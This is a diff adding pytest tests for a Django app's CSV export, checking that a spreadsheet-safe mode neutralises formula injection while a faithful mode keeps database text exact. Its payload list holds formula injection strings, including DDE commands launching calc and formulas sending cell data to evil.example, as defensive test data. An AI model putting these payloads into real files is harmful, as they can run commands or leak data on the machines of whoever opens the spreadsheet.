@@ -1,0 +1,178 @@
+"""CSV, faithful or spreadsheet-safe; both read back to the words of the database."""
+
+import pytest
+
+from claims.choices import Verdict
+from claims.exports import exactly
+from claims.exports.csv_export import COLUMNS, GUARDED, MAX_CELL_UTF16_UNITS, OMISSION, guarded, unguarded
+from claims.models import Anchor, Claim
+from claims.refusal import Refused
+from claims.workflow import perform
+from tests import factories
+from tests.exports.exported import exported, exported_json, exported_rows, rows_of
+
+pytestmark = pytest.mark.django_db
+
+# What has run as a formula, or has hidden one, in a spreadsheet.
+PAYLOADS = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://evil.example?x="&A1,"Click")',
+    '=IMPORTXML(CONCAT("https://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
+    '=WEBSERVICE("https://evil.example")',
+    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
+    "+1+1",
+    "+cmd|' /C notepad'!'A1'",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!D2",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "@A1",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1)",
+    "'=1+1",
+    "''=1+1",
+    "'",
+    '"=1+1"',
+    'a","=1+1',
+    "a\r\n=1+1",
+    "a\n=1+1",
+    ";=1+1",
+    "plain, with a comma",
+    "“curly”",
+    " =leading blank",
+]
+# A statement and an anchor keep their words; texts of a review may begin with anything.
+COLUMN_OF = {"statement": "statement", "claimant": "claimant", "rationale": "rationale", "correction": "correction"}
+
+
+def reviewed(payload: str) -> Claim:
+    """A settled claim with the payload in every text that a person types."""
+    ann = factories.user("ann", "reviewer")
+    claim = factories.claim()
+    Claim.objects.filter(pk=claim.pk).update(statement=payload, claimant=payload)
+    claim.refresh_from_db()
+    factories.cite(claim, ann, title="Act", excerpt=payload, pinpoint="p. 1")
+    perform("decide", claim, by=ann, verdict=Verdict.DISPUTED, rationale="x" if not payload.strip() else payload)
+    claim.reviews.update(rationale=payload, correction=payload)
+    Anchor.objects.filter(claim=claim).update(quote=payload)
+    return claim
+
+
+def only(claim: Claim):
+    return exactly(Claim.objects.filter(pk=claim.pk))
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_the_faithful_form_is_equal_to_the_database(payload):
+    claim = reviewed(payload)
+
+    [row] = exported_rows(only(claim))
+    [record] = exported_json(only(claim))["claims"]
+
+    for column in ("statement", "claimant", "rationale", "correction"):
+        assert row[column] == record[column] == payload
+    assert row["quote"] == record["anchors"][0]["quote"] == payload
+    assert record["citations"][0]["excerpt"] == payload
+    assert row["citations"] == f"refutes — Act, p. 1: “{payload}”"
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_no_cell_of_the_safe_form_starts_a_formula(payload):
+    claim = reviewed(payload)
+
+    [row] = exported_rows(only(claim), spreadsheet_safe=True)
+
+    assert [cell for cell in row.values() if cell.startswith(tuple("=+-@\t\r\n\0＝＋－＠"))] == []
+    assert {name: unguarded(cell) for name, cell in row.items()} == exported_rows(only(claim))[0]
+
+
+def test_the_payloads_would_start_formulas_without_the_guard(monkeypatch):
+    monkeypatch.setattr("claims.exports.csv_export.GUARDED", ())
+
+    [row] = exported_rows(only(reviewed("=1+1")), spreadsheet_safe=True)
+
+    assert row["statement"] == "=1+1"
+
+
+@pytest.mark.parametrize("start", GUARDED)
+@pytest.mark.parametrize("rest", ["", "1+1", "'x"])
+def test_the_guard_can_be_taken_back(start, rest):
+    assert unguarded(guarded(start + rest)) == start + rest
+
+
+def test_the_faithful_file_is_header_and_rows_only():
+    factories.document()
+
+    body = exported(format="csv")
+
+    lines = body.split(b"\r\n")
+    assert lines[0] == ",".join(COLUMNS).encode()
+    assert len(lines) == 1 + 3 + 1
+    assert lines[-1] == b""
+
+
+def test_line_ends_within_a_text_stay_as_they_are():
+    claim = reviewed("one\ntwo\r\nthree\rfour")
+
+    assert b"one\ntwo\r\nthree\rfour" in exported(only(claim), "csv")
+    assert exported_rows(only(claim))[0]["statement"] == "one\ntwo\r\nthree\rfour"
+
+
+def test_the_safe_file_tells_spreadsheets_that_it_is_utf_8():
+    factories.document()
+
+    assert exported(format="csv", spreadsheet_safe=True).startswith(b"\xef\xbb\xbfid,")
+    assert not exported(format="csv").startswith(b"\xef\xbb\xbf")
+
+
+def test_places_of_one_claim_share_a_cell():
+    claim = factories.claim()
+    anchor = claim.anchors.get()
+    anchor.pk, anchor.start, anchor.end, anchor.quote = None, anchor.start + 100, anchor.end + 100, "again"
+    anchor.save()
+
+    [row] = exported_rows(only(claim))
+
+    first = claim.anchors.order_by("start")[0]
+    assert row["quote"] == f"{first.quote}{OMISSION}again"
+    assert (row["start"], row["end"]) == (str(first.start), str(anchor.end))
+
+
+def test_a_claim_without_words_in_any_version_has_empty_cells():
+    claim = factories.claim()
+    claim.anchors.all().delete()
+
+    [row] = exported_rows(only(claim))
+
+    assert (row["version"], row["quote"], row["start"], row["end"]) == ("", "", "", "")
+
+
+@pytest.mark.parametrize(("letters", "is_cut"), [(MAX_CELL_UTF16_UNITS - 1, False), (MAX_CELL_UTF16_UNITS, True)])
+@pytest.mark.parametrize("letter", ["x", "𝒳"])
+def test_what_a_spreadsheet_would_cut_is_refused_by_name(letters, is_cut, letter):
+    claim = factories.claim()
+    # An astral letter counts twice.
+    words = letter * (letters // len(letter.encode("utf-16-le")) * 2)
+    words += "x" * (letters - len(words.encode("utf-16-le")) // 2)
+    Claim.objects.filter(pk=claim.pk).update(statement=words)
+
+    if is_cut:
+        with pytest.raises(Refused, match=f"{claim.number}: its statement is too long"):
+            exported(only(claim), "csv", spreadsheet_safe=True)
+    else:
+        assert words in exported(only(claim), "csv", spreadsheet_safe=True).decode()
+    assert rows_of(exported(only(claim), "csv").decode())[0]["statement"] == words
+
+
+def test_more_rows_than_a_sheet_holds_are_refused(monkeypatch):
+    monkeypatch.setattr("claims.exports.csv_export.MAX_SHEET_ROWS", 3)
+    factories.document()
+
+    assert len(exported_rows()) == 3
+    with pytest.raises(Refused, match="would be row 4: a spreadsheet holds 3"):
+        exported(format="csv", spreadsheet_safe=True)
